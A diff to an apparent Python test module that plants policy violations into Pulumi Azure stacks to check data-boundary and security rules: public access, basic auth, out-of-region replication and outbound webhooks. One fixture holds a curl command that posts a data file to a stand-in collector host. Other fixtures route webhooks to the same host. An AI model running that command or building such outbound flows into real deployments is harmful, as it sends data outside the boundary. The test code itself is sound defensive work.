@@ -9,8 +9,9 @@ foreign ARM id, a URL, or a resource added outside the boundary (in unknowns mod
 becomes unknown and its property dependency is rewired to the added resource).
 
 Placeholders: ``OUTSIDE`` = a region outside the stack's boundary; ``REGION`` = the stack's;
-``"<ref:TOKEN>"`` in an added resource = the id of the stack's first TOKEN resource (unknown
-in unknowns mode, with a property dependency on it instead).
+``"<ref:TOKEN>"`` anywhere in an added resource = the id of the stack's first TOKEN resource,
+``"<add:KEY>"`` = the id of an earlier added resource (unknown in unknowns mode, with a property
+dependency on it instead).
 """
 
 from __future__ import annotations
@@ -53,6 +54,7 @@ class Mutation:
     select: str | None = None  # substring the resource's `kind` must contain
     label: str | None = None  # a label the resource's `labels` must hold (a metadata channel)
     sources: tuple[str, ...] | None = None  # captured sources it applies to (None = all)
+    target: str | None = None  # with token None: the key of the added resource to check (default: the first)
 
 
 def _ns(key: str = "far-sb") -> Add:
@@ -270,4 +272,200 @@ MUTATIONS: list[Mutation] = [
     Mutation("PE-target-added-outside", "private-endpoint-targets-in-boundary", PE,
              refs={"privateLinkServiceConnections.0.privateLinkServiceId": ("privateLinkServiceConnections", "far-db")},
              adds=(_COSMOS,)),
+]
+
+
+# -- issue 12: default-deny, readable inputs, and the services next to an event platform ---------
+
+TENANT = "00000000-0000-0000-0000-000000000001"
+HOOK = "https://collector.example.com/ingest"
+_SQL_SERVER = Add("sqlsrv", "azure-native:sql:Server",
+                  {"location": REGION, "serverName": "sqlsrv", "publicNetworkAccess": "Disabled",
+                   "administrators": {"azureADOnlyAuthentication": True, "login": "dba", "sid": TENANT}},
+                  "Microsoft.Sql/servers/sqlsrv")
+_REDIS = Add("redis", "azure-native:redis:Redis",
+             {"location": REGION, "name": "cache", "sku": {"name": "Premium", "family": "P", "capacity": 1.0},
+              "publicNetworkAccess": "Disabled", "disableAccessKeyAuthentication": True},
+             "Microsoft.Cache/redis/cache")
+_EG_NAMESPACE = Add("egns", "azure-native:eventgrid:Namespace",
+                    {"location": REGION, "namespaceName": "egns", "publicNetworkAccess": "Disabled"},
+                    "Microsoft.EventGrid/namespaces/egns")
+_WEBAPP_REF = "<ref:azure-native:web:WebApp>"
+_NSP = Add("nsp", "azure-native:network:NetworkSecurityPerimeter",
+           {"location": REGION, "networkSecurityPerimeterName": "nsp"},
+           "Microsoft.Network/networkSecurityPerimeters/nsp")
+_NSP_PROFILE = Add("nsp-profile", "azure-native:network:NspProfile",
+                   {"networkSecurityPerimeterName": "nsp", "profileName": "default"},
+                   "Microsoft.Network/networkSecurityPerimeters/nsp/profiles/default",
+                   parent_key="nsp", parent_input="networkSecurityPerimeterName")
+
+
+def _nsp_association(mode: str | None) -> Add:
+    inputs: dict[str, Any] = {"networkSecurityPerimeterName": "nsp", "associationName": "storage",
+                              "privateLinkResource": {"id": "<ref:azure-native:storage:StorageAccount>"},
+                              "profile": {"id": "<add:nsp-profile>"}}
+    if mode is not None:
+        inputs["accessMode"] = mode
+    return Add("nsp-assoc", "azure-native:network:NspAssociation", inputs,
+               "Microsoft.Network/networkSecurityPerimeters/nsp/resourceAssociations/storage")
+
+
+def _nsp_rule(prefix: str) -> Add:
+    return Add("nsp-rule", "azure-native:network:NspAccessRule",
+               {"networkSecurityPerimeterName": "nsp", "profileName": "default", "accessRuleName": "inbound",
+                "direction": "Inbound", "addressPrefixes": [prefix]},
+               "Microsoft.Network/networkSecurityPerimeters/nsp/profiles/default/accessRules/inbound",
+               parent_key="nsp-profile", parent_input="profileName")
+
+
+VETTING = "unvetted-resource-type"
+FLOWS = "data-flows-in-boundary"
+
+MUTATIONS += [
+    # default-deny: unvetted azure-native types, other providers, command and dynamic providers
+    Mutation("V1-unvetted-azure-native-type", VETTING, None, adds=(Add(
+        "adf", "azure-native:datafactory:Factory", {"location": REGION, "factoryName": "adf"},
+        "Microsoft.DataFactory/factories/adf"),)),
+    Mutation("V1-other-provider-even-at-eastus", VETTING, None, adds=(Add(
+        "tf-cosmos", "azure:cosmosdb/account:Account", {"location": "eastus", "offerType": "Standard"},
+        "Microsoft.DocumentDB/databaseAccounts/tf-cosmos"),)),
+    Mutation("V1-command-provider", VETTING, None, adds=(Add(
+        "cmd", "command:local:Command", {"create": "curl -d @data.json https://collector.example.com"}, "x/cmd"),)),
+    Mutation("V1-dynamic-provider", VETTING, None, adds=(Add(
+        "dyn", "pulumi-python:dynamic:Resource", {"__provider": "opaque", "payload": "x"}, "x/dyn"),)),
+    Mutation("V2-azure-native-provider-outside", "providers-vetted", None, adds=(Add(
+        "prov", "pulumi:providers:azure-native", {"location": OUTSIDE}, "x/prov"),)),
+    Mutation("V2-command-provider", "providers-vetted", None, adds=(Add(
+        "cmdprov", "pulumi:providers:command", {}, "x/cmdprov"),)),
+    # a versioned token is the same type: the public-network rule applies (issue 12, check-state)
+    Mutation("C1-versioned-cosmos-public", PNA, None, adds=(Add(
+        "vcosmos", "azure-native:cosmosdb/v20240515:DatabaseAccount",
+        {"location": REGION, "accountName": "vcosmos", "locations": [{"locationName": REGION}],
+         "publicNetworkAccess": "Enabled", "disableLocalAuth": True, "disableKeyBasedMetadataWriteAccess": True,
+         "backupPolicy": {"type": "Continuous"}},
+        "Microsoft.DocumentDB/databaseAccounts/vcosmos"),)),
+    Mutation("S1-versioned-servicebus-public", PNA, None, adds=(Add(
+        "vsb", "azure-native:servicebus/v20221001preview:Namespace",
+        {"location": REGION, "namespaceName": "vsb", "disableLocalAuth": True, "publicNetworkAccess": "Enabled"},
+        "Microsoft.ServiceBus/namespaces/vsb"),)),
+    # a dict for a union-typed argument goes out with snake_case keys the provider never reads
+    Mutation("R0-snake-case-destination", "inputs-readable", SUB,
+             {"destination": {"endpoint_type": "ServiceBusQueue",
+                              "resource_id": f"{FOREIGN}/Microsoft.ServiceBus/namespaces/x/queues/y"},
+              "deliveryWithResourceIdentity": DELETE}),
+    # Key Vault, Function App slots, basic auth, remote debugging, ACR admin, Data Explorer, Web PubSub
+    *[Mutation(f"KV1-key-vault-{what}", PNA, None, adds=(Add(
+        "kv", "azure-native:keyvault:Vault",
+        {"location": REGION, "vaultName": "kv", "properties": {"tenantId": TENANT, "sku": {"family": "A", "name": "standard"},
+                                                              **extra}},
+        "Microsoft.KeyVault/vaults/kv"),)) for what, extra in (("public", {"publicNetworkAccess": "Enabled"}),
+                                                             ("public-by-default", {}))],
+    Mutation("F1-function-app-slot-public", PNA, None, adds=(Add(
+        "slot", "azure-native:web:WebAppSlot",
+        {"location": REGION, "name": _WEBAPP_REF, "slot": "staging", "kind": "functionapp,linux", "httpsOnly": True},
+        "Microsoft.Web/sites/app/slots/staging"),)),
+    Mutation("F7-ftp-basic-auth", AUTH, "azure-native:web:WebAppFtpAllowed", {"allow": True}),
+    Mutation("F8-scm-basic-auth", AUTH, "azure-native:web:WebAppScmAllowed", {"allow": True}),
+    Mutation("F7-slot-ftp-basic-auth", AUTH, None, adds=(Add(
+        "slot-ftp", "azure-native:web:WebAppFtpAllowedSlot", {"name": _WEBAPP_REF, "slot": "staging", "allow": True},
+        "Microsoft.Web/sites/app/slots/staging/basicPublishingCredentialsPolicies/ftp"),)),
+    Mutation("F8-slot-scm-basic-auth", AUTH, None, adds=(Add(
+        "slot-scm", "azure-native:web:WebAppScmAllowedSlot", {"name": _WEBAPP_REF, "slot": "staging", "allow": True},
+        "Microsoft.Web/sites/app/slots/staging/basicPublishingCredentialsPolicies/scm"),)),
+    Mutation("F9-remote-debugging", AUTH, WEBAPP, {"siteConfig.remoteDebuggingEnabled": True}),
+    Mutation("A1-acr-admin-user", AUTH, None, adds=(Add(
+        "acr", "azure-native:containerregistry:Registry",
+        {"location": REGION, "registryName": "acr", "sku": {"name": "Premium"}, "publicNetworkAccess": "Disabled",
+         "adminUserEnabled": True}, "Microsoft.ContainerRegistry/registries/acr"),)),
+    Mutation("X1-data-explorer-public", PNA, None, adds=(Add(
+        "adx", "azure-native:kusto:Cluster",
+        {"location": REGION, "clusterName": "adx", "sku": {"name": "Dev(No SLA)_Standard_E2a_v4", "tier": "Basic"}},
+        "Microsoft.Kusto/clusters/adx"),)),
+    Mutation("W1-web-pubsub-public", PNA, None, adds=(Add(
+        "wps", "azure-native:webpubsub:WebPubSub",
+        {"location": REGION, "resourceName": "wps", "disableLocalAuth": True, "sku": {"name": "Standard_S1"}},
+        "Microsoft.SignalRService/webPubSub/wps"),)),
+    # copies to the pair and to named regions
+    Mutation("Q3-sql-geo-backup-unpaired", "paired-copies-in-boundary", None, target="sqldb", adds=(_SQL_SERVER, Add(
+        "sqldb", "azure-native:sql:Database",
+        {"location": "italynorth", "serverName": "sqlsrv", "databaseName": "db", "requestedBackupStorageRedundancy": "Geo"},
+        "Microsoft.Sql/servers/sqlsrv/databases/db", parent_key="sqlsrv", parent_input="serverName")),
+        stacks=("eu",)),
+    Mutation("N2-notification-hubs-replication-region", FLOWS, None, adds=(Add(
+        "nh", "azure-native:notificationhubs:Namespace",
+        {"location": REGION, "namespaceName": "nh", "sku": {"name": "Standard"}, "publicNetworkAccess": "Disabled",
+         "replicationRegion": "WestUs2"}, "Microsoft.NotificationHubs/namespaces/nh"),), stacks=("eu",)),
+    Mutation("N2-notification-hubs-replication-region-us", FLOWS, None, adds=(Add(
+        "nh", "azure-native:notificationhubs:Namespace",
+        {"location": REGION, "namespaceName": "nh", "sku": {"name": "Standard"}, "publicNetworkAccess": "Disabled",
+         "replicationRegion": "NorthEurope"}, "Microsoft.NotificationHubs/namespaces/nh"),), stacks=("us",)),
+    # data flows found by value (ids, URLs, regions)
+    Mutation("DF-sql-failover-group-outside", FLOWS, None, target="fog", adds=(_SQL_SERVER, Add(
+        "fog", "azure-native:sql:FailoverGroup",
+        {"serverName": "sqlsrv", "failoverGroupName": "fog", "readWriteEndpoint": {"failoverPolicy": "Manual"},
+         "partnerServers": [{"id": f"{FOREIGN}/Microsoft.Sql/servers/far"}]},
+        "Microsoft.Sql/servers/sqlsrv/failoverGroups/fog", parent_key="sqlsrv", parent_input="serverName"))),
+    Mutation("DF-redis-geo-link", FLOWS, None, target="link", adds=(_REDIS, Add(
+        "link", "azure-native:redis:LinkedServer",
+        {"name": "cache", "linkedServerName": "far", "serverRole": "Secondary", "linkedRedisCacheLocation": OUTSIDE,
+         "linkedRedisCacheId": f"{FOREIGN}/Microsoft.Cache/redis/far"},
+        "Microsoft.Cache/redis/cache/linkedServers/far", parent_key="redis", parent_input="name"))),
+    Mutation("DF-logic-app-posts-outside", FLOWS, None, adds=(Add(
+        "logic", "azure-native:logic:Workflow",
+        {"location": REGION, "workflowName": "logic", "definition": {
+            "$schema": "https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/"
+                       "workflowdefinition.json#",
+            "actions": {"post": {"type": "Http", "inputs": {"method": "POST", "uri": HOOK}}}}},
+        "Microsoft.Logic/workflows/logic"),)),
+    Mutation("DF-app-insights-on-outside-workspace", FLOWS, None, target="appi",
+             refs={"workspaceResourceId": ("workspaceResourceId", "far-log")}, adds=(Add(
+                 "appi", "azure-native:applicationinsights:Component",
+                 {"location": REGION, "resourceName": "appi", "kind": "web", "applicationType": "web"},
+                 "Microsoft.Insights/components/appi"), _WORKSPACE)),
+    Mutation("DF-log-analytics-export-outside", FLOWS, None, target="export",
+             refs={"resourceId": ("resourceId", "far-st")}, adds=(Add(
+                 "export", "azure-native:operationalinsights:DataExport",
+                 {"workspaceName": "<ref:azure-native:operationalinsights:Workspace>", "dataExportName": "all",
+                  "tableNames": ["AppTraces"]},
+                 "Microsoft.OperationalInsights/workspaces/log/dataExports/all"), _account())),
+    Mutation("G9-subscription-diagnostics-outside", "diagnostic-sinks-in-boundary", None, target="subdiag",
+             refs={"workspaceId": ("workspaceId", "far-log")}, adds=(Add(
+                 "subdiag", "azure-native:monitor:SubscriptionDiagnosticSetting", {"name": "activity-log"},
+                 "x/subdiag"), _WORKSPACE)),
+    Mutation("DF-servicebus-migration-outside", FLOWS, None, target="migrate",
+             refs={"targetNamespace": ("targetNamespace", "far-sb")}, adds=(Add(
+                 "migrate", "azure-native:servicebus:MigrationConfig",
+                 {"namespaceName": "<ref:azure-native:servicebus:Namespace>", "configName": "$default",
+                  "postMigrationName": "legacy"},
+                 "Microsoft.ServiceBus/namespaces/sb/migrationConfigurations/$default"), _ns())),
+    Mutation("DF-eventgrid-namespace-push-webhook", FLOWS, None, target="egsub", adds=(_EG_NAMESPACE, Add(
+        "egsub", "azure-native:eventgrid:NamespaceTopicEventSubscription",
+        {"namespaceName": "egns", "topicName": "orders", "eventSubscriptionName": "push",
+         "deliveryConfiguration": {"deliveryMode": "Push", "push": {
+             "destination": {"endpointType": "WebHook", "endpointUrl": HOOK}}}},
+        "Microsoft.EventGrid/namespaces/egns/topics/orders/eventSubscriptions/push",
+        parent_key="egns", parent_input="namespaceName"))),
+    Mutation("DF-action-group-webhook", FLOWS, None, adds=(Add(
+        "ag-hook", "azure-native:monitor:ActionGroup",
+        {"location": "Global", "actionGroupName": "hooks", "groupShortName": "hooks", "enabled": True,
+         "webhookReceivers": [{"name": "hook", "serviceUri": HOOK}]},
+        "Microsoft.Insights/actionGroups/hooks"),)),
+    Mutation("DF-cosmos-acl-bypass-foreign", FLOWS, COSMOS,
+             {"networkAclBypassResourceIds": [f"{FOREIGN}/Microsoft.Synapse/workspaces/syn"]}),
+    Mutation("DF-child-in-outside-parent", FLOWS, None, target="far-q2", adds=(_ns(), Add(
+        "far-q2", "azure-native:servicebus:Queue", {"namespaceName": "sb-far", "queueName": "q2"},
+        "Microsoft.ServiceBus/namespaces/sb-far/queues/q2", parent_key="far-sb", parent_input="namespaceName"))),
+    Mutation("DF-child-of-a-parent-not-in-the-stack", FLOWS, None, adds=(Add(
+        "orphan", "azure-native:storage:BlobContainer",
+        {"accountName": "existingusaccount", "resourceGroupName": "rg-us", "containerName": "exports"},
+        "Microsoft.Storage/storageAccounts/existingusaccount/blobServices/default/containers/exports"),)),
+    # SecuredByPerimeter: private only with an enforced, closed perimeter association
+    Mutation("NSP-storage-perimeter-without-association", "network-perimeter-closed", STORAGE,
+             {"publicNetworkAccess": "SecuredByPerimeter"}),
+    Mutation("NSP-storage-perimeter-admits-everyone", "network-perimeter-closed", STORAGE,
+             {"publicNetworkAccess": "SecuredByPerimeter"},
+             adds=(_NSP, _NSP_PROFILE, _nsp_rule("0.0.0.0/0"), _nsp_association("Enforced"))),
+    Mutation("NSP-storage-perimeter-learning-mode", "network-perimeter-closed", STORAGE,
+             {"publicNetworkAccess": "SecuredByPerimeter"},
+             adds=(_NSP, _NSP_PROFILE, _nsp_rule("10.0.0.0/8"), _nsp_association(None))),
 ]
